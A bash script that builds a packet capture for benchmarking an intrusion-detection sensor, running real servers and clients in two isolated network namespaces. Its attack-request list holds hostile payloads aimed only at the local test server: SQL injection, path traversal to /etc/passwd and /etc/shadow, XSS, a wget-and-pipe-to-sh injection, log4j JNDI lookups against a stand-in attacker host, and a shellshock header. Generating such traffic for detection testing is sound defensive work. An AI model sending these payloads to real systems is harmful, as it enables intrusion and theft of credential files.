#!/usr/bin/env bash
# Makes a large, realistic capture for the sensor throughput benchmark
# (bench/sensor/sensor_bench.sh): real Debian servers and clients talking
# over a veth pair between two network namespaces this script creates, and
# tcpdump writing what crosses the server's side of the link.
#
#   server namespace swsense-srv, 198.18.0.10/15 (the benchmarking range,
#     RFC 2544): nginx (HTTP on 80, TLS on 443 with a throw-away self-signed
#     certificate made here with openssl; static pages, style sheets,
#     scripts, images and 100 KB - 10 MB downloads written here) and dnsmasq
#     (a few hundred local names, --no-resolv, only on 198.18.0.10).
#   client namespace swsense-cli, 198.19.0.20/15: wrk (page-load bursts
#     over HTTP and TLS, on keep-alive connections and one request per
#     connection), curl (page loads of a page and its assets on
#     one connection, downloads, TLS requests with TLS 1.2 and 1.3, and a few
#     hundred attack-like requests: SQL injection in query strings, path
#     traversal, log4j ${jndi:...} in headers, shellshock, XSS, scanner user
#     agents such as sqlmap, Nikto and the Nmap Scripting Engine, so that
#     Emerging Threats rules fire), and dig (DNS over UDP and TCP).
#   The link: MTU 1500; segmentation and receive offloads off (ethtool -K
#     tso off gso off gro off) so that every frame is at most 1,514 bytes as
#     on a real wire, and transmit checksum offload off (tx off) so that the
#     captured checksums are the real ones.
#
# Rounds of that mix run until the capture reaches SIZE_MB (default 200), or
# MAX_SECONDS (default 300) pass; tcpdump (snap length 0: whole packets)
# then stops and the file is moved to OUT.pcap. Neither namespace has a
# default route: the only reachable addresses are the two ends of the veth,
# so no packet can leave this machine (checked before any traffic is sent).
# Every loop is bounded by a count and every client command by a timeout.
# Runs as root; removes what it made (namespaces, veth, processes, temporary
# files) on exit, error or interrupt, and first removes what an earlier,
# killed run of it left (the namespaces of these names), so it can simply be
# run again. One run at a time (a lock in /tmp).
#
# Usage: bench/sensor/make_capture.sh OUT.pcap [SIZE_MB]
# Environment: MAX_SECONDS=S (30..900, default 300)
# Needs Debian's nginx, dnsmasq-base, curl, wrk, dnsutils (dig), tcpdump,
# ethtool, openssl, iproute2: the missing ones are installed with apt-get.
set -euo pipefail

out=${1:-}
size_mb=${2:-200}
max_seconds=${MAX_SECONDS:-300}

ns_srv=swsense-srv
ns_cli=swsense-cli
veth_srv=swsense0
veth_cli=swsense1
srv=198.18.0.10
cli=198.19.0.20
prefix=15
lock=/tmp/swsense-make-capture.lock

die() { echo "make_capture: $*" >&2; exit 1; }
say() { printf '[%6.1f s] %s\n' "$(awk -v a="$(date +%s.%N)" -v b="$t_start" 'BEGIN { print a - b }')" "$*"; }

[[ -n $out ]] || die "usage: $0 OUT.pcap [SIZE_MB]"
[[ $(id -u) -eq 0 ]] || die "run as root (network namespaces, tcpdump)"
[[ $size_mb =~ ^[0-9]+$ && $size_mb -ge 1 && $size_mb -le 4000 ]] || die "SIZE_MB must be 1..4000"
[[ $max_seconds =~ ^[0-9]+$ && $max_seconds -ge 30 && $max_seconds -le 900 ]] || die "MAX_SECONDS must be 30..900"
target_bytes=$((size_mb * 1000 * 1000))
t_start=$(date +%s.%N)

# Missing tools come from Debian's packages.
need=()
for pair in nginx:nginx dnsmasq:dnsmasq-base curl:curl wrk:wrk dig:dnsutils tcpdump:tcpdump \
  ethtool:ethtool openssl:openssl ip:iproute2 flock:util-linux; do
  command -v "${pair%%:*}" >/dev/null || PATH=$PATH:/usr/sbin:/sbin command -v "${pair%%:*}" >/dev/null ||
    need+=("${pair#*:}")
done
if ((${#need[@]})); then
  echo "make_capture: installing ${need[*]} (apt-get)"
  apt-get update -qq >/dev/null
  DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends "${need[@]}" >/dev/null
fi
export PATH=$PATH:/usr/sbin:/sbin

exec 9>"$lock"
flock -n 9 || die "another make_capture.sh is running (lock $lock)"

work=""
pids=()
job_pid=""
# shellcheck disable=SC2317  # invoked by the trap
cleanup() {
  local rc=$?
  trap - EXIT INT TERM
  local p ns
  if [[ -n $job_pid ]]; then kill "$job_pid" 2>/dev/null || true; fi
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
  # Whatever still runs inside our namespaces is ours.
  for ns in "$ns_srv" "$ns_cli"; do
    if ip netns list | grep -qw "$ns"; then
      for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null || true; done
      ip netns del "$ns" 2>/dev/null || true
    fi
  done
  [[ -n $work ]] && rm -rf "$work"
  exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# A killed earlier run may have left its namespaces: remove them (the lock
# says no other run of this script uses them now).
for ns in "$ns_srv" "$ns_cli"; do
  if ip netns list | grep -qw "$ns"; then
    echo "make_capture: removing namespace $ns left by an earlier run"
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null || true; done
    ip netns del "$ns"
  fi
done

work=$(mktemp -d /tmp/swsense-capture.XXXXXX)
chmod 755 "$work"
mkdir -p "$(dirname "$out")"

# --- the network ---------------------------------------------------------
ip netns add "$ns_srv"
ip netns add "$ns_cli"
ip -n "$ns_srv" link add "$veth_srv" type veth peer name "$veth_cli" netns "$ns_cli"
ip -n "$ns_srv" addr add "$srv/$prefix" dev "$veth_srv"
ip -n "$ns_cli" addr add "$cli/$prefix" dev "$veth_cli"
for pair in "$ns_srv:$veth_srv" "$ns_cli:$veth_cli"; do
  ns=${pair%%:*} dev=${pair#*:}
  ip -n "$ns" link set lo up
  ip -n "$ns" link set "$dev" mtu 1500 up
  ip netns exec "$ns" ethtool -K "$dev" tso off gso off gro off tx off >/dev/null 2>&1 ||
    ip netns exec "$ns" ethtool -K "$dev" tso off gso off gro off
  # Nothing beyond the link: no default route in either namespace.
  if ip -n "$ns" route show default | grep -q .; then die "namespace $ns has a default route"; fi
done
ip netns exec "$ns_cli" ip -o route get "$srv" | grep -q "dev $veth_cli " || die "$srv is not on $veth_cli"
ip netns exec "$ns_cli" ip -o route get 192.0.2.1 >/dev/null 2>&1 && die "namespace $ns_cli routes beyond its link"

# --- content -------------------------------------------------------------
www=$work/www
mkdir -p "$www/static" "$www/img" "$www/dl" "$www/api" "$www/backup"
# 60 pages of 2 - 60 KB of HTML text, style sheets, scripts, images.
awk -v dir="$www" 'BEGIN {
  srand(20261122)
  split("network sensor alert flow packet rule stream session host asset scan policy report tenant threat intel " \
        "signature engine capture traffic server client request response header payload detect match buffer", w, " ")
  nw = length(w)
  for (p = 1; p <= 60; p++) {
    f = dir "/page" p ".html"
    target = 2000 + int(rand() * rand() * 58000)
    printf "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Page %d</title>\n", p > f
    printf "<link rel=\"stylesheet\" href=\"/static/site%d.css\"><script src=\"/static/app%d.js\"></script></head>\n<body>\n", p % 4, p % 3 > f
    n = 0
    while (n < target) {
      line = "<p>"
      for (i = 0; i < 12 + int(rand() * 20); i++) line = line w[1 + int(rand() * nw)] " "
      line = line "<a href=\"/page" (1 + int(rand() * 60)) ".html\">more</a> <img src=\"/img/i" int(rand() * 20) ".png\"></p>\n"
      printf "%s", line > f
      n += length(line)
    }
    printf "</body></html>\n" > f
    close(f)
  }
  for (s = 0; s < 4; s++) {
    f = dir "/static/site" s ".css"
    for (i = 0; i < 400; i++) printf ".c%d-%d { margin: %dpx; color: #%06x; }\n", s, i, i % 17, int(rand() * 16777215) > f
    close(f)
  }
  for (s = 0; s < 3; s++) {
    f = dir "/static/app" s ".js"
    for (i = 0; i < 500; i++) printf "function f%d_%d(a, b) { return document.getElementById(\"x%d\") || a + b * %d; }\n", s, i, i, i > f
    close(f)
  }
}'
for i in $(seq 0 19); do head -c $((3000 + i * 1500)) /dev/urandom >"$www/img/i$i.png"; done
cp "$www/page1.html" "$www/index.html"
printf '{"status":"ok","items":[%s]}\n' "$(seq -s, 1 200)" >"$www/api/items.json"
printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n' >"$www/backup/passwd.txt"
dl_sizes=(100000 250000 500000 1000000 2000000 4000000 10000000)
for s in "${dl_sizes[@]}"; do head -c "$s" /dev/urandom >"$www/dl/file-$s.bin"; done
(cd "$www" && find . -name '*.html' -o -name '*.css' -o -name '*.js' -o -name '*.png' -o -name '*.json' | sed 's|^\.||' | sort) >"$work/paths"

openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/key.pem" -out "$work/cert.pem" -days 2 \
  -subj "/CN=shop.bench.test/O=Shouwang benchmark" \
  -addext "subjectAltName=DNS:shop.bench.test,DNS:*.bench.test" >/dev/null 2>&1

# --- servers -------------------------------------------------------------
mkdir -p "$work/nginx/tmp"
cat >"$work/nginx/nginx.conf" <<CONF
daemon off; master_process off; pid $work/nginx/pid; error_log $work/nginx/error.log crit;
events { worker_connections 1024; }
http {
  access_log off;
  include /etc/nginx/mime.types;
  sendfile on; tcp_nopush on; keepalive_timeout 30; keepalive_requests 10000;
  client_body_temp_path $work/nginx/tmp; proxy_temp_path $work/nginx/tmp; fastcgi_temp_path $work/nginx/tmp;
  uwsgi_temp_path $work/nginx/tmp; scgi_temp_path $work/nginx/tmp;
  server {
    listen $srv:80 default_server;
    listen $srv:443 ssl default_server;
    server_name shop.bench.test;
    ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem;
    ssl_protocols TLSv1.2 TLSv1.3;
    root $www;
    location /api/ { default_type application/json; }
    location /login { return 302 /page2.html; }
  }
}
CONF
ip netns exec "$ns_srv" nginx -c "$work/nginx/nginx.conf" -p "$work/nginx" >"$work/nginx.log" 2>&1 &
pids+=($!)

# A few hundred local names: A and AAAA in a hosts file, MX, TXT, CNAME, and
# a few domains answered wholesale (dynamic DNS, tunnelling services, mining
# pools, .top/.xyz) that Emerging Threats' DNS policy rules look for.
awk -v out="$work/hosts" 'BEGIN {
  split("www mail api cdn shop app vpn git wiki files db intranet portal auth static img m dev staging", h, " ")
  split("corp.bench.test shop.bench.test lab.bench.test eu.bench.test", z, " ")
  n = 0
  for (i = 1; i <= 18; i++) for (j = 1; j <= 4; j++) for (k = 1; k <= 4; k++) {
    n++
    printf "198.18.%d.%d %s%d.%s\n", 1 + int(n / 250), 1 + n % 250, h[i], k, z[j] > out
    if (n % 3 == 0) printf "2001:db8::%x %s%d.%s\n", n, h[i], k, z[j] > out
  }
}'
# shellcheck disable=SC2054  # the commas are dnsmasq's
dns_args=(--no-daemon --no-resolv --no-hosts --addn-hosts="$work/hosts" --listen-address="$srv" --bind-interfaces
  --user=root --pid-file="$work/dnsmasq.pid" --cache-size=1000 --local=/bench.test/
  --mx-host=corp.bench.test,mail1.corp.bench.test,10 --mx-host=shop.bench.test,mail2.shop.bench.test,20
  --txt-record=corp.bench.test,"v=spf1 ip4:198.18.0.0/15 -all" --txt-record=_dmarc.corp.bench.test,"v=DMARC1; p=reject"
  --cname=login.corp.bench.test,portal1.corp.bench.test)
for d in duckdns.org no-ip.org ngrok.io ngrok-free.app trycloudflare.com pastebin.com transfer.sh \
  minexmr.com nanopool.org supportxmr.com free-counter.top update-check.xyz; do
  dns_args+=(--address="/$d/198.18.0.10")
done
ip netns exec "$ns_srv" dnsmasq "${dns_args[@]}" >"$work/dnsmasq.log" 2>&1 &
pids+=($!)

for _ in $(seq 1 100); do
  ip netns exec "$ns_cli" curl -s -o /dev/null -m 1 "http://$srv/" && break
  sleep 0.1
done
ip netns exec "$ns_cli" curl -s -o /dev/null -m 2 "http://$srv/" || die "nginx did not start: $(cat "$work/nginx.log" "$work/nginx/error.log" 2>/dev/null)"
ip netns exec "$ns_cli" dig +short +tries=2 +time=1 "@$srv" www1.corp.bench.test | grep -q . ||
  die "dnsmasq did not answer: $(cat "$work/dnsmasq.log")"

# --- capture -------------------------------------------------------------
pcap=$work/capture.pcap
ip netns exec "$ns_srv" tcpdump -i "$veth_srv" -s 0 -B 32768 -n -Z root -w "$pcap" 2>"$work/tcpdump.err" &
tcpdump_pid=$!
pids+=("$tcpdump_pid")
for _ in $(seq 1 100); do grep -q "listening on" "$work/tcpdump.err" && break; sleep 0.05; done
grep -q "listening on" "$work/tcpdump.err" || die "tcpdump did not start: $(cat "$work/tcpdump.err")"
say "capturing on $veth_srv in $ns_srv until $size_mb MB or $max_seconds s"

# --- clients -------------------------------------------------------------
# run_cli SECONDS CMD...: CMD in the client namespace, bounded in time, in
# the background and waited for so that a signal reaches the trap at once.
run_cli() {
  local limit=$1
  shift
  timeout -k 2 "$limit" ip netns exec "$ns_cli" "$@" >>"$work/clients.log" 2>&1 &
  job_pid=$!
  wait "$job_pid" || true
  job_pid=""
}
captured() { stat -c %s "$pcap" 2>/dev/null || echo 0; }
elapsed() { awk -v a="$(date +%s.%N)" -v b="$t_start" 'BEGIN { printf "%d", a - b }'; }
done_yet() { (($(captured) >= target_bytes || $(elapsed) >= max_seconds)); }

ua_browser=(
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15"
  "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
)

# wrk: bursts over the pages and assets with browser-like headers, on
# keep-alive connections (or one request per connection: SW_CLOSE=1); each
# thread stops after LIMIT responses (and wrk after -d seconds).
cat >"$work/pages.lua" <<'LUA'
local paths, uas, n = {}, {}, 0
for line in io.lines(os.getenv("SW_PATHS")) do paths[#paths + 1] = line end
local limit = tonumber(os.getenv("SW_LIMIT"))
local hosts = { "shop.bench.test", "www1.corp.bench.test", "portal2.corp.bench.test", "app3.eu.bench.test" }
local ua = os.getenv("SW_UA")
local seed = tonumber(os.getenv("SW_SEED"))
local threads = 0
setup = function(thread) thread:set("tid", threads); threads = threads + 1 end
init = function(args) math.randomseed(seed * 16 + (tid or 0)) end
local close = os.getenv("SW_CLOSE") == "1"
request = function()
  local p = paths[math.random(#paths)]
  return wrk.format("GET", p, {
    ["Connection"] = close and "close" or "keep-alive",
    ["Host"] = hosts[math.random(#hosts)],
    ["User-Agent"] = ua,
    ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    ["Accept-Language"] = "en-US,en;q=0.5",
    ["Referer"] = "http://shop.bench.test/page" .. math.random(60) .. ".html",
    ["Cookie"] = "session=" .. string.format("%08x%08x", math.random(0, 0x7fffffff), math.random(0, 0x7fffffff)) .. "; theme=dark",
  })
end
response = function(status, headers, body)
  n = n + 1
  if n >= limit then wrk.thread:stop() end
end
LUA

mapfile -t pages < <(grep '\.html$' "$work/paths")
n_wrk=0 n_wrk_close=0 n_curl_pages=0 n_dl=0 n_tls=0 n_dns=0 n_attack=0
attack_budget=${ATTACKS:-360}

wrk_burst() { # SCHEME THREADS CONNS PER_THREAD [close: one request per connection]
  local scheme=$1 t=$2 c=$3 lim=$4 close=0
  [[ ${5:-} == close ]] && close=1
  SW_PATHS=$work/paths SW_LIMIT=$lim SW_SEED=$round SW_UA="${ua_browser[round % ${#ua_browser[@]}]}" SW_CLOSE=$close \
    run_cli 10 wrk -t"$t" -c"$c" -d2s -s "$work/pages.lua" "$scheme://$srv/"
  n_wrk=$((n_wrk + t * lim))
  if ((close)); then n_wrk_close=$((n_wrk_close + t * lim)); fi
}

page_loads() { # COUNT: a page and its assets on one keep-alive connection each
  local i p urls
  for i in $(seq 1 "$1"); do
    p=${pages[(round * 7 + i * 13) % ${#pages[@]}]}
    urls=("http://shop.bench.test$p" "http://shop.bench.test/static/site$((i % 4)).css"
      "http://shop.bench.test/static/app$((i % 3)).js" "http://shop.bench.test/api/items.json")
    for k in 1 2 3 4 5; do urls+=("http://shop.bench.test/img/i$(((i * 5 + k) % 20)).png"); done
    run_cli 10 curl -s -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
      -o /dev/null -o /dev/null --resolve "shop.bench.test:80:$srv" -A "${ua_browser[i % ${#ua_browser[@]}]}" \
      -H "Accept-Language: en-US,en;q=0.9" -m 8 "${urls[@]}"
    n_curl_pages=$((n_curl_pages + 9))
  done
}

downloads() { # COUNT
  local i s scheme
  for i in $(seq 1 "$1"); do
    s=${dl_sizes[(round * 3 + i) % ${#dl_sizes[@]}]}
    scheme=http
    ((i % 3 == 0)) && scheme=https
    run_cli 30 curl -sk -o /dev/null -m 25 --resolve "files1.corp.bench.test:80:$srv" \
      --resolve "files1.corp.bench.test:443:$srv" -A "${ua_browser[i % ${#ua_browser[@]}]}" \
      "$scheme://files1.corp.bench.test/dl/file-$s.bin"
    n_dl=$((n_dl + 1))
  done
}

tls_requests() { # COUNT: one connection (one handshake) each, TLS 1.2 and 1.3
  local i v
  for i in $(seq 1 "$1"); do
    v=(--tlsv1.3)
    ((i % 2)) && v=(--tlsv1.2 --tls-max 1.2)
    run_cli 10 curl -sk -o /dev/null -o /dev/null -m 8 "${v[@]}" --resolve "shop.bench.test:443:$srv" \
      -A "${ua_browser[i % ${#ua_browser[@]}]}" "https://shop.bench.test${pages[(round + i) % ${#pages[@]}]}" \
      "https://shop.bench.test/api/items.json"
    n_tls=$((n_tls + 1))
  done
}

dns_queries() { # COUNT over UDP, a tenth over TCP
  local i n=$1 batch=$work/dns-batch
  : >"$batch"
  for i in $(seq 1 "$n"); do
    case $((i % 10)) in
      0) echo "nosuch$round-$i.corp.bench.test A" ;;
      1) echo "corp.bench.test MX" ;;
      2) echo "corp.bench.test TXT" ;;
      3) echo "$(sed -n "$(((round * 31 + i) % 288 + 1))p" "$work/hosts" | awk '{ print $2 }') AAAA" ;;
      4) echo "-x 198.18.1.$((i % 250 + 1))" ;;
      5) echo "host$i.$(printf '%s\n' duckdns.org ngrok.io trycloudflare.com minexmr.com pastebin.com free-counter.top update-check.xyz | sed -n "$((i % 7 + 1))p") A" ;;
      6) echo "login.corp.bench.test A" ;;
      *) echo "$(sed -n "$(((round * 17 + i * 7) % 288 + 1))p" "$work/hosts" | awk '{ print $2 }') A" ;;
    esac
  done >>"$batch"
  run_cli 60 dig "@$srv" +tries=1 +time=1 +short -f "$batch"
  head -n $((n / 10)) "$batch" >"$batch.tcp"
  run_cli 20 dig "@$srv" +tcp +tries=1 +time=1 +short -f "$batch.tcp"
  n_dns=$((n_dns + n + n / 10))
}

# Attack-like requests, one connection each. URLs keep ../ (--path-as-is).
attack_urls=(
  "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL,%20NULL,%20NULL,%20NULL--%20AND%20'a'='a"
  "/item.php?id=1'%20OR%20'1'='1"
  "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--"
  "/news.php?id=-1%20UNION%20SELECT%201,2,concat(user(),0x3a,database())--"
  "/index.php?id=1;SELECT%20pg_sleep(5)--"
  "/cat.php?id=1%20AND%20SLEEP(5)"
  "/page.php?file=../../../../etc/passwd"
  "/../../../../etc/passwd"
  "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"
  "/cgi-bin/view.cgi?f=....//....//....//etc/passwd"
  "/download?path=/etc/shadow"
  "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
  "/ping.php?host=198.18.0.10;cat%20/etc/passwd"
  "/cmd.php?c=wget%20http://198.18.0.66/x.sh%20-O-|sh"
  "/.git/config"
  "/.env"
  "/wp-login.php"
  "/phpmyadmin/index.php"
  "/admin/config.php"
  "/backup/passwd.txt"
  "/cgi-bin/test.cgi"
  "/shell.php?cmd=id"
)
attack_uas=(
  "sqlmap/1.7.2#stable (https://sqlmap.org)"
  "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000542)"
  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
  "Nmap NSE"
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"
  "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"
  "Wfuzz/3.1.0"
  "${ua_browser[0]}"
)
attacks() { # COUNT
  local i k u a extra
  for i in $(seq 1 "$1"); do
    ((n_attack < attack_budget)) || return 0
    k=$((n_attack))
    u=${attack_urls[k % ${#attack_urls[@]}]}
    a=${attack_uas[(k / 3) % ${#attack_uas[@]}]}
    extra=()
    case $((k % 5)) in
      1) extra=(-H "X-Api-Version: \${jndi:ldap://attacker.bench.test:1389/Exploit}") ;;
      2) a="\${jndi:ldap://198.18.0.66:1389/a}" ;;
      3) extra=(-H "Referer: () { :; }; /bin/bash -c 'cat /etc/passwd'") ;;
    esac
    run_cli 6 curl -s -o /dev/null -m 4 --path-as-is --resolve "shop.bench.test:80:$srv" -A "$a" "${extra[@]}" \
      "http://shop.bench.test$u"
    n_attack=$((n_attack + 1))
  done
}

# Rounds: page loads (wrk keep-alive bursts and curl), downloads, TLS, DNS
# and attacks, checking the size after each step.
round=0
max_rounds=400
while ((round < max_rounds)) && ! done_yet; do
  round=$((round + 1))
  wrk_burst http 2 8 200
  done_yet && break
  page_loads 6
  wrk_burst http 1 4 150 close
  dns_queries 100
  done_yet && break
  attacks 40
  downloads 2
  done_yet && break
  tls_requests 6
  wrk_burst https 1 4 150
  done_yet && break
  if ((round % 10 == 0)); then say "round $round: $(($(captured) / 1000000)) MB"; fi
done

kill -INT "$tcpdump_pid" 2>/dev/null || true
wait "$tcpdump_pid" 2>/dev/null || true
stats=$(grep -E "captured|dropped" "$work/tcpdump.err" | tr '\n' ';' | sed 's/;$//')
bytes=$(captured)
((bytes > 0)) || die "nothing was captured: $(cat "$work/tcpdump.err")"
mv -f "$pcap" "$out"
say "$out: $bytes bytes in $round rounds ($stats)"
say "requests: $n_wrk wrk page/asset requests ($n_wrk_close of them one per connection, the rest keep-alive), $n_curl_pages curl page/asset requests on $((n_curl_pages / 9)) connections, $n_dl downloads, $n_tls TLS connections by curl, $n_dns DNS queries, $n_attack attack-like requests"
if ((bytes < target_bytes)); then
  echo "make_capture: note: stopped by MAX_SECONDS=$max_seconds at $((bytes / 1000000)) MB, below the $size_mb MB asked for" >&2
fi
